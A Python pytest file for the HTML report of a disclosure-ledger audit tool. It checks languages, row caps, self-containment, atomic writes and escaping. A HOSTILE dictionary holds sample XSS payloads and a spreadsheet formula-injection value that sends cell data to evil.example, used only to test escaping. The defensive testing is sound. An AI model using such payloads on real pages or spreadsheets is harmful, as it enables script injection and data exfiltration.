"""The HTML report (DESIGN §12): content, languages, escaping, size, atomic writing.

``make_result`` builds a small stand-in of an audit result with the attributes the
report reads (the real engine's result has the same ones); the browser and export
tests import it from here.
"""

from __future__ import annotations

import datetime as dt
import re
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from disclosure_rules.report import MAX_ROWS_PER_RULE, UI, build_view, render_html, write_html
from disclosure_rules.rulebook import load_rulebook

HOSTILE = {
    "script": "<script>alert('x')</script>",
    "onerror": '"><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
}


@dataclass
class StandInRule:
    id: str
    title: str
    section: str | None
    dataset: str
    kind: str
    severity: str
    status: str
    population: int
    passed: int
    violations: int
    pending: int = 0
    waived: int = 0
    rate: float | None = None
    threshold_min: float | None = None
    threshold_max: float | None = None
    awarded: float = 0.0
    possible: float = 0.0
    basis: dict = field(default_factory=dict)
    message: str = ""
    description: str | None = None
    fields: list = field(default_factory=list)


def _status(rule, violations, population):
    if population == 0:
        return "not_applicable"
    if rule.kind == "ratio":
        return "pass" if (population - violations) / population >= (rule.min or 0) else "fail"
    return "pass" if violations == 0 else "fail"


def make_result(n_docs: int = 120, hostile: bool = False, *, book=None):
    """A stand-in audit result over the bundled rulebook: documents and requests only."""
    book = book or load_rulebook("builtin:shanxi-commerce-2021")
    divisions = ["办公室", "外贸处", "外资处", "市场处", "<b>处</b>" if hostile else "法规处"]
    text = HOSTILE["script"] if hostile else "关于开展检查的通知"
    docs = pd.DataFrame({
        "doc_id": [f"晋商函〔2021〕{i}号" for i in range(1, n_docs + 1)],
        "title": [text] * n_docs,
        "department": pd.Series([divisions[i % len(divisions)] for i in range(n_docs)], dtype="string"),
        "issued_on": pd.to_datetime("2021-03-01") + pd.to_timedelta(pd.Series(range(n_docs)) % 200, unit="D"),
        "disclosure": pd.Categorical([["active", "on_request", "not_public", None][i % 4] for i in range(n_docs)],
                                     categories=["active", "on_request", "not_public"]),
        "disclosure_basis": pd.Series([HOSTILE["onerror"] if hostile and i % 4 == 2 else None
                                       for i in range(n_docs)], dtype="string"),
        "interpretation_forms": pd.array([[1, 3, 5, 0, None][i % 5] for i in range(n_docs)], dtype="Int64"),
    })
    if hostile:
        docs.loc[0, "doc_id"] = HOSTILE["formula"]
    reqs = pd.DataFrame({
        "request_id": [f"YSQ-2021-{i:03d}" for i in range(1, 41)],
        "department": pd.Series([divisions[i % 4] for i in range(40)], dtype="string"),
        "received_on": pd.to_datetime("2021-09-01") + pd.to_timedelta(pd.Series(range(40)) * 2, unit="D"),
        "replied_on": pd.to_datetime("2021-10-10") + pd.to_timedelta(pd.Series(range(40)), unit="D"),
    })
    reqs.loc[[35, 36, 37], "replied_on"] = pd.NaT
    data = {
        "documents": SimpleNamespace(frame=docs, rows=np.arange(2, n_docs + 2), source="/data/公文台账.csv", sha256="a" * 64,
                                     headers={"doc_id": "文号", "disclosure": "公开属性",
                                              "disclosure_basis": "不公开依据", "interpretation_forms": "解读形式"}),
        "requests": SimpleNamespace(frame=reqs, rows=np.arange(2, 42), source="/data/依申请台账.xlsx", sha256="b" * 64,
                                    headers={"request_id": "申请编号", "received_on": "收到申请日期",
                                             "replied_on": "答复日期"}),
    }

    findings, rules = [], []
    for rule in book.rules:
        loaded = data.get(rule.dataset)
        if loaded is None:
            rules.append(StandInRule(rule.id, rule.title, rule.section, rule.dataset, rule.kind, rule.severity,
                                     "not_assessed", 0, 0, 0, basis=rule.basis.model_dump() if rule.basis else {},
                                     threshold_min=rule.min, threshold_max=rule.max, message="数据未提供"))
            continue
        frame = loaded.frame
        key_field = book.datasets[rule.dataset].key
        if rule.id == "DOC-ATTR-01":
            bad = frame.index[frame["disclosure"].isna()]
        elif rule.id == "DOC-ATTR-02":
            bad = frame.index[(frame["disclosure"] != "active").fillna(False) & frame["disclosure_basis"].isna()]
        elif rule.id == "DOC-INTERP-04":
            bad = frame.index[frame["interpretation_forms"].fillna(0) < 6]
        elif rule.id == "REQ-DEADLINE-01":
            bad = frame.index[30:38]
        else:
            bad = frame.index[:0]
        population = len(frame)
        waived = 1 if rule.id == "DOC-ATTR-01" else 0
        for n, pos in enumerate(bad):
            late = rule.kind == "deadline"
            findings.append({
                "rule": rule.id, "dataset": rule.dataset, "row": int(pos) + 2,
                "key": frame.loc[pos, key_field], "department": frame.loc[pos, "department"],
                "severity": rule.severity, "waived": n < waived,
                "message": (HOSTILE["onerror"] if hostile and n == 0 else f"第 {pos + 2} 行不符合要求"),
                "deadline": pd.Timestamp("2021-10-29") if late else pd.NaT,
                "end": (frame.loc[pos, "replied_on"] if late else pd.NaT),
                "late_workdays": (3 if late else pd.NA),
                "position": int(pos),
            })
        violations = len(bad) - waived
        population -= waived
        rate = (population - violations) / population if population else None
        rules.append(StandInRule(
            rule.id, rule.title, rule.section, rule.dataset, rule.kind, rule.severity,
            _status(rule, violations, population), population, population - violations, violations,
            waived=waived, rate=rate, threshold_min=rule.min, threshold_max=rule.max,
            awarded=round(rule.points * (rate or 0), 2), possible=rule.points,
            basis=rule.basis.model_dump() if rule.basis else {}, message=f"{violations} 条不符合",
            description=rule.description,
            fields=["interpretation_forms"] if rule.id == "DOC-INTERP-04" else list(rule.fields_used),
        ))
    findings = pd.DataFrame(findings)
    findings["late_workdays"] = findings["late_workdays"].astype("Int64")
    assessed = [r for r in rules if r.status in ("pass", "fail")]
    awarded = sum(r.awarded for r in assessed)
    possible = sum(r.possible for r in assessed)
    departments = pd.DataFrame({
        "department": divisions, "awarded": [40.0, 35.5, 30, 20, 10], "possible": [50.0] * 5,
        "percent": [80.0, 71.0, 60.0, 40.0, 20.0], "violations": [1, 3, 5, 8, 13],
    })
    department_rules = pd.DataFrame([
        {"department": d, "rule": r.id, "population": 10, "violations": i % 3, "rate": 1 - (i % 3) / 10}
        for i, d in enumerate(divisions) for r in assessed
    ] + [{"department": divisions[0], "rule": "REQ-REG-02", "population": 0, "violations": 0, "rate": float("nan")}])
    reply_rows = pd.DataFrame({
        "row": range(2, 42), "key": reqs["request_id"], "department": reqs["department"],
        "clock_start": reqs["received_on"], "deadline": reqs["received_on"] + pd.Timedelta(days=28),
        "end": reqs["replied_on"],
        "status": ["on_time"] * 30 + ["late"] * 5 + ["overdue"] * 3 + ["pending"] * 2,
        "late_workdays": pd.array([None] * 30 + [1, 2, 4, 7, 12] + [3, 5, 8] + [None] * 2, dtype="Int64"),
    })
    sections = [{"id": s.id, "title": s.title,
                 "awarded": sum(r.awarded for r in assessed if r.section == s.id),
                 "possible": sum(r.possible for r in assessed if r.section == s.id),
                 "percent": 0.0} for s in book.sections]
    for s in sections:
        s["percent"] = round(100 * s["awarded"] / s["possible"], 1) if s["possible"] else 0
    data_issues = [{"dataset": "documents", "field": "issued_on", "row": 9 + i, "value": "2021-13-01",
                    "problem": "not a date"} for i in range(30)]
    data_issues.append({"dataset": "documents", "field": "disclosure", "row": 5,
                        "value": HOSTILE["script"] if hostile else "公开", "problem": "unknown label"})
    result = SimpleNamespace(
        book=book, rules=rules, percent=100 * awarded / possible if possible else None, grade="合格",
        awarded=awarded, possible=possible, coverage=possible / sum(r.points for r in book.rules),
        as_of=dt.date(2021, 12, 31), sections=sections, departments=departments,
        department_rules=department_rules, findings=findings, data=data,
        deadline_rows={"REQ-DEADLINE-01": reply_rows}, data_issues=data_issues,
        warnings=["2027 年不在内置节假日日历中，按周一至周五计算", HOSTILE["onerror"] if hostile else "提示二"],
        tool_version="0.1.0",
    )
    return result


@pytest.fixture(scope="module")
def result():
    return make_result()


def test_report_shows_audit_trail_score_and_every_rule(result):
    """The header carries what is needed to verify the audit later; every rule is shown."""
    html = render_html(result)
    assert html.startswith("<!DOCTYPE html>")
    assert result.book.rulebook.title in html
    assert result.book.sha256 in html
    assert "a" * 64 in html and "b" * 64 in html
    assert "公文台账.csv" in html and "/data/" not in html  # file names, not local paths
    assert "2021-12-31" in html and "0.1.0" in html
    assert f"{result.percent:.1f}" in html
    for rule in result.rules:
        assert f'id="rule-{rule.id}"' in html


def test_report_is_self_contained(result):
    """No URL that a browser would fetch: no src=, no external href, no @import, no url()."""
    html = render_html(result)
    assert not re.search(r"\bsrc\s*=", html)
    assert not re.search(r"""href\s*=\s*["'](?!#)""", html)
    assert "@import" not in html and "url(" not in html
    assert "http://" not in html and "https://" not in html


def test_chinese_by_default_english_on_request(result):
    """All labels switch with the language; rule titles stay as the rulebook has them."""
    zh = render_html(result)
    en = render_html(result, lang="en")
    assert '<html lang="zh-CN">' in zh and '<html lang="en">' in en
    assert UI["zh"]["divisions"] in zh and UI["en"]["divisions"] in en
    assert UI["zh"]["divisions"] not in en
    assert "未达标" in zh and ">fail<" in en
    assert result.rules[0].title in en


def test_unknown_language_is_an_error(result):
    with pytest.raises(ValueError, match="unknown report language"):
        render_html(result, lang="fr")


def test_ui_dicts_have_the_same_keys():
    """A label missing in one language would break rendering in that language only."""
    assert set(UI["zh"]) == set(UI["en"])


def test_violating_rows_show_the_rule_fields_as_labels(result):
    """Category codes show as their first label, set masks as labels joined with 、."""
    view = build_view(result)
    attr = next(r for r in view["rules"] if r["id"] == "DOC-ATTR-02")
    assert [c["label"] for c in attr["columns"]] == ["不公开依据"]  # a field the file lacks is left out
    interp = next(r for r in view["rules"] if r["id"] == "DOC-INTERP-04")
    assert interp["rows"], "the ratio rule lists its violating rows"
    forms_spec = result.book.datasets["documents"].fields["interpretation_forms"]
    first_labels = [labels[0] for labels in forms_spec.values.values()]
    html = render_html(result)
    assert f">{first_labels[0]}、{first_labels[1]}</td>" in html  # mask 3 = first two codes
    assert f">{first_labels[0]}、{first_labels[2]}</td>" in html  # mask 5 = first and third


def test_rows_are_capped_with_a_note(result):
    """At most MAX_ROWS_PER_RULE rows per rule; the rest are counted in a note."""
    view = build_view(result)
    interp = next(r for r in view["rules"] if r["id"] == "DOC-INTERP-04")
    total = int((result.findings["rule"] == "DOC-INTERP-04").sum())
    assert total > MAX_ROWS_PER_RULE
    assert len(interp["rows"]) == MAX_ROWS_PER_RULE
    assert interp["more"] == total - MAX_ROWS_PER_RULE
    assert f"另有 {total - MAX_ROWS_PER_RULE} 条问题记录" in render_html(result)


def test_page_size_does_not_grow_with_ledger_rows():
    """Ten times the rows gives (almost) the same page: tables are capped, charts aggregate."""
    small = len(render_html(make_result(n_docs=400)))
    large = len(render_html(make_result(n_docs=4000)))
    assert large < small * 1.05


def test_targets_divisions_and_deadlines_are_drawn(result):
    """Ratio rules get a bar with a threshold line; divisions a ranking and a grid; replies a chart."""
    view = build_view(result)
    assert {t["id"] for t in view["targets"]} == {"DOC-INTERP-04", "DOC-INTERP-05"}
    target = next(t for t in view["targets"] if t["id"] == "DOC-INTERP-04")
    assert target["min"] == 90
    html = render_html(result)
    assert 'class="thr"' in html
    assert [d["name"] for d in view["divisions"]["ranking"]][:2] == ["办公室", "外贸处"]
    assert view["divisions"]["grid_rules"]
    bars = {b["bucket"]: b["count"] for b in view["deadlines"][0]["bars"]}
    assert bars["on_time"] == 30 and bars["overdue"] == 3 and bars["late_1"] == 1 and bars["late_11"] == 1
    assert len(view["deadlines"][0]["overdue"]) == 3


def test_data_issues_are_grouped_with_row_numbers(result):
    view = build_view(result)
    group = next(g for g in view["issues"]["groups"] if g["field"] == "成文日期")
    assert group["count"] == 30 and group["rows"][:2] == ["9", "10"]


def test_hostile_values_are_escaped():
    """Markup in cells, messages, division names and warnings reaches the page as text."""
    html = render_html(make_result(hostile=True))
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in html
    assert "<img src=x onerror" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<b>处</b>" not in html and "&lt;b&gt;处&lt;/b&gt;" in html
    # exactly one script element: the report's own
    assert html.count("<script") == 1


def test_write_html_is_atomic_and_leaves_no_temp_file(tmp_path, result):
    target = tmp_path / "report.html"
    target.write_text("old", encoding="utf-8")
    write_html(result, target, lang="en")
    assert target.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]


def test_write_html_failure_keeps_the_old_file(tmp_path, result, monkeypatch):
    """If rendering fails, the previous report is untouched and no temp file is left."""
    import disclosure_rules.report as report

    target = tmp_path / "report.html"
    target.write_text("old", encoding="utf-8")
    monkeypatch.setattr(report, "render_html", lambda *a, **k: (_ for _ in ()).throw(RuntimeError("boom")))
    with pytest.raises(RuntimeError):
        write_html(result, target)
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]


EXAMPLE_LEDGERS = {"documents": "documents.csv", "requests": "requests.csv", "messages": "messages.xlsx",
                   "opinions": "opinions.xlsx", "meetings": "meetings.xlsx"}


def example_result():
    """The real engine on the bundled example ledgers (the report `make demo` writes)."""
    from disclosure_rules.engine import audit
    from disclosure_rules.resources import examples_dir

    folder = examples_dir()
    data = {name: folder / file for name, file in EXAMPLE_LEDGERS.items() if (folder / file).is_file()}
    return audit("builtin:shanxi-commerce-2021", data, as_of="2021-12-31")


def test_example_report_renders_every_rule_and_deadline_chart():
    """On the examples: every rule appears, each deadline rule has its chart, violations are listed."""
    result = example_result()
    view = build_view(result)
    html = render_html(result)
    for rule in result.rules:
        assert f'id="rule-{rule.id}"' in html
    assert {d["rule"] for d in view["deadlines"]} == set(result.deadline_rows)
    listed = sum(len(r["rows"]) + r["more"] for r in view["rules"])
    assert listed == len(result.findings)
    assert all(d["rows"] for d in view["meta"]["datasets"] if d["name"] in result.data)
